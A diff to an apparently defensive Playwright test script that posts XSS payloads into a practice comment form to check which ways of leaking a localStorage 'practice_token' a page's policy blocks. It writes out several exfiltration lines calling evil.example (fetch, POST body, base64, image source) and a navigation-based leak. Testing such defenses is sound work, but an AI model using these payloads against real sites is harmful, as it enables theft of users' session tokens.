@@ -63,18 +63,32 @@ try {
   await page.reload();
   found.anew = await post();
 
-  await page.fill('#comment', '<img src="x" onerror="window.outcome = localStorage.getItem(\'token\') ? \'read\' : \'nothing\'">');
+  await page.fill('#comment', '<img src="x" onerror="window.outcome = localStorage.getItem(\'practice_token\') ? \'read\' : \'nothing\'">');
   await page.click('#post');
   await page.waitForFunction(() => window.outcome !== undefined);
   found.handler = await page.evaluate(() => window.outcome);
 
   found.documentCookie = await run('window.outcome = document.cookie || "nothing";');
-  await page.fill('#comment', "<script>fetch('https://evil.example/?t=' + localStorage.getItem('token'))</" + 'script>');
+  await page.fill('#comment', "<script>fetch('https://evil.example/?t=' + localStorage.getItem('practice_token'))</" + 'script>');
   const sent = told();
   await page.click('#post');
   await sent;
   found.sentElsewhere = await page.$$eval('#loot span, #blocked', (all) => all.filter((each) => !each.hidden).map((each) => each.id).join(' '));
   found.sentTo = await page.textContent('#blocked-at');
+  // In a body, in other letters, as a picture: nobody can tell from outside what was in it.
+  for (const [name, script] of [
+    ['sentInBody', "fetch('https://evil.example/', { method: 'POST', body: localStorage.getItem('practice_token') })"],
+    ['sentInOtherLetters', "fetch('https://evil.example/?t=' + btoa(localStorage.getItem('practice_token')))"],
+    ['sentAsPicture', "new Image().src = 'https://evil.example/?t=' + localStorage.getItem('practice_token')"],
+    ['sentAsData', "new Image().src = 'data:image/png;base64,' + btoa(localStorage.getItem('practice_token'))"],
+  ]) {
+    await page.reload();
+    await page.fill('#comment', `<script>${script}</` + 'script>');
+    const tried = told();
+    await page.click('#post');
+    await tried;
+    found[name] = await page.$$eval('#loot span, #blocked', (all) => all.filter((each) => !each.hidden).map((each) => each.id).join(' '));
+  }
   const elsewhere = `http://localhost:${new URL(start).port}/`; // another origin, and somebody listens there
   found.elsewhere = await run(reaches(`fetch('${elsewhere}', { mode: 'no-cors' })`));
   found.authorize = await run(reaches("fetch('/authorize')"));
@@ -95,6 +109,12 @@ try {
   const stayed = page.waitForResponse((response) => response.request().postData()?.includes('"token"')).then(() => 'blocked');
   await page.click('#post');
   found.form = await Promise.race([led, stayed]);
+  // No policy keeps a document from leaving: a reach that is known.
+  await page.goto(start);
+  const leaving = page.waitForRequest((request) => request.isNavigationRequest() && request.url().includes('?t='));
+  await page.fill('#comment', `<script>location = '${elsewhere}?t=' + localStorage.getItem('practice_token')</` + 'script>');
+  await page.click('#post');
+  found.navigation = new URL((await leaving).url()).searchParams.get('t') === 'null' ? 'nothing' : 'token';
 } catch (error) {
   await end(1, `${error}\nso far: ${JSON.stringify(found)}`);
 }
